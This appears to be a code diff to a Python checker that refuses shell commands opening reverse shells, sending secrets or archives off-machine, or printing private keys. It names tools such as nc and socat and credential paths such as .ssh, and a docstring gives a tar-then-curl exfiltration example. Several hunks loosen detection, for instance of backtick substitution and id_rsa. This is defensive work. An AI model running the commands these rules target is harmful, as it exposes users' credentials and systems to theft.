@@ -74,12 +74,9 @@ _READS = frozenset(
         "type",
         "get-content",
         "gc",
-        "find",
-        "ls",
         "cp",
         "dd",
         "gpg",
-        "tee",
     ]
 )
 _PATTERN_FIRST = frozenset({"grep", "rg", "sed", "awk", "jq", "yq"})
@@ -131,7 +128,7 @@ def judge_reverse_shell(command: Invocation) -> Finding | None:
             return refuse("opens a connection to another machine")
     if command.name in ("nc", "ncat", "netcat") and (
         has_option(command, "ec", "--exec", "--sh-exec")
-        and any(is_shell(word.text.rsplit("/", 1)[-1]) or word.text.startswith("-e") for word in command.words)
+        and any(is_shell(word.text.rsplit("/", 1)[-1]) for word in command.words)
     ):
         return refuse("gives another machine a shell")
     if command.name == "socat" and re.search(r"(?:exec|system):", command.text, re.IGNORECASE):
@@ -148,8 +145,6 @@ def judge_connection(text: str) -> Finding | None:
 
 def judge_sender(command: Invocation) -> Finding | None:
     """Programs that send: refused when what they send is secret."""
-    if (finding := judge_reverse_shell(command)) is not None:
-        return finding
     if not _sends(command) or _is_local(command):
         return None
     payload = _payload(command)
@@ -167,7 +162,7 @@ def judge_sender(command: Invocation) -> Finding | None:
     text = (command.input.text or "") if command.input is not None else ""
     if _is_secret_text(text) or (command.name in ("sftp", "ftp", "lftp") and any(map(is_secret_file, text.split()))):
         return refuse("sends secrets to another machine")
-    if command.has_more_arguments and command.wrapped_by[-1:] == ("find",):
+    if command.wrapped_by[-1:] == ("find",):
         return refuse("sends every file that it finds to another machine")
     if command.input is not None and command.input.kind is InputKind.FILE and is_secret_file(command.input.file):
         return refuse("sends secrets to another machine")
@@ -176,9 +171,7 @@ def judge_sender(command: Invocation) -> Finding | None:
             return refuse("sends secrets to another machine")
         if command.name != "ssh" and (source.name in _ARCHIVERS or source.text.startswith("git archive")):
             return refuse("sends an archive to another machine")
-    if command.name in ("nc", "ncat", "netcat", "telnet") and (
-        sources or (command.input and command.input.kind is InputKind.FILE)
-    ):
+    if command.name in ("nc", "ncat", "netcat", "telnet") and command.input is not None:
         return refuse("sends data to another machine")
     return None
 
@@ -207,11 +200,7 @@ def _is_local(command: Invocation) -> bool:
 def _payload(command: Invocation) -> list[str]:
     """What of its arguments a command sends."""
     if command.name in ("curl", "wget", "wget2", "xh", "http", "https", "httpie"):
-        urls = [
-            text
-            for text in command.arguments
-            if _URL.match(text) or "://" in text or text.startswith("@") or "@" in text
-        ]
+        urls = [text for text in command.arguments if _URL.match(text) or "@" in text]
         headers = option_values(
             command,
             "-H",
@@ -233,7 +222,7 @@ def _payload(command: Invocation) -> list[str]:
         secret_headers = [
             text
             for text in option_values(command, "-H", "--header", "-b", "--cookie", "-A", "--user-agent")
-            if "$(" in text or "`" in text
+            if "$(" in text
         ]
         return [text for text in [*option_values(command, *_DATA), *urls] if text not in headers] + secret_headers
     if command.name in ("scp", "rsync", "sftp", "rclone", "aws", "s3cmd"):
@@ -253,7 +242,7 @@ def _payload(command: Invocation) -> list[str]:
         )
         sources = (
             paths[:-1]
-            if len(paths) > 1 and re.match(r"[\w.@$-]+:|\w+://", paths[-1])
+            if len(paths) > 1 and re.match(r"[\w.@$-]+:", paths[-1])
             else []
             if command.name in ("scp", "rsync")
             else paths
@@ -266,12 +255,12 @@ def _payload(command: Invocation) -> list[str]:
 
 def _is_secret_text(text: str) -> bool:
     return bool(SECRET_VARIABLE.search(text)) or (
-        ("$(" in text or "`" in text)
+        "$(" in text
         and bool(
             _SECRET_TOOLS.search(text)
             or re.search(
                 r"[`(]\s*(?:env|set)\b|\bprintenv\b|"
-                r"(?:cat|base64|head|xxd|tr|<)\s?[^)]*(?:\.env|\.ssh|id_rsa|credentials|\.pem|\.netrc|secret)",
+                r"(?:cat|base64|head|xxd|tr|<)\s?[^)]*(?:\.env|\.ssh|credentials|\.pem|\.netrc|secret)",
                 text,
             )
         )
@@ -295,8 +284,6 @@ def _reads_secret(command: Invocation) -> bool:
 
 def judge_key_reader(command: Invocation) -> Finding | None:
     """Private keys outside of the project, printed where the model reads them."""
-    if command.name in ("ls", "find", "tee"):
-        return None
     paths = operands(command)[1:] if command.name in _PATTERN_FIRST else operands(command)
     if any(PRIVATE_KEY.search(place(command, path)) for path in paths):
         return refuse("prints a private key or credentials")
@@ -306,12 +293,11 @@ def judge_key_reader(command: Invocation) -> Finding | None:
 def judge_gathered_then_sent(commands: tuple[Invocation, ...]) -> Finding | None:
     """``tar czf x ~/.ssh; curl -T x URL``: a file that is made of secrets and then sent."""
     files: set[str] = set()
-    if len(commands) < 2 or not any(_sends(command) for command in commands):
+    if not any(_sends(command) for command in commands):
         return None
     for command in commands:
         if (
-            files
-            and _sends(command)
+            _sends(command)
             and not _is_local(command)
             and any(file in argument for argument in command.arguments for file in files)
         ):
